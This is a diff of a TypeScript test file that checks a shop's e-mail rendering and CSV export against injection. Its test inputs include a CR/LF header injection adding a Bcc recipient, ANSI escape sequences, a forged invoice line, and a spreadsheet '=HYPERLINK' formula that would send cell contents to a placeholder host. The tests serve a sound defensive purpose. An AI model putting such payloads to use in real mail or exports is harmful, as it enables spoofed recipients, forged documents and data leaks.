@@ -16,6 +16,8 @@ import { emailProblem } from '../src/commerce/address';
 import { parseMailbox } from '../src/commerce/email';
 import { escapeNonPrintable, hasControlCharacters } from '../src/commerce/text';
 import { ordersCsv } from '../src/merchant/format';
+import { renderMail } from '../src/mail/layout';
+import { catalog } from './helpers/ucp';
 import type { OrderSummary } from '../src/state/order-list';
 
 const S = ITEMS.stocked.variant.id;
@@ -238,6 +240,19 @@ describe('the merchant command line and an order stored before the refusals', ()
     const row = csv.out.split('\r\n').find((l) => l.startsWith(orderId))!;
     expect(row).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1)@example.org",`);
     expect(csv.out.replace(/\r\n/g, '\n'), 'CRLF ends the records, nothing else').not.toMatch(RAW_CONTROL);
+  });
+
+  it('e-mails: no control character of stored text reaches either part (a CR/LF cannot forge a line)', () => {
+    const mail = renderMail({
+      to: 'camille@example.org', subject: 'Commande\r\nBcc: x@example.org',
+      blocks: [
+        { kind: 'section', heading: 'Adresse', lines: ['Camille\u001b[2J\u001b[H Martin\u0085', '12 rue des Mariniers\r\ntotal     0.00 €'] },
+        { kind: 'table', head: ['Article', 'Qté', 'Total'], rows: [{ label: 'Kit\u0007', quantity: 1, amount: 24900 }], totals: [{ label: 'Total', amount: 24900 }] },
+      ],
+    }, catalog.store, 'fr', 'https://poissons-et-pousses.example');
+    for (const part of [mail.text.replace(/\n/g, ''), mail.html.replace(/\n/g, ''), mail.subject]) expect(part).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
+    expect(mail.text.split('\n').filter((l) => l.trim().startsWith('total'))).toEqual([]);
+    expect(mail.text).toContain('12 rue des Mariniers  total     0.00 €');
   });
 
   it('ordersCsv: cells starting with =, +, -, @, tab or CR get a leading quote; RFC 4180 quoting kept; numbers as they are', () => {
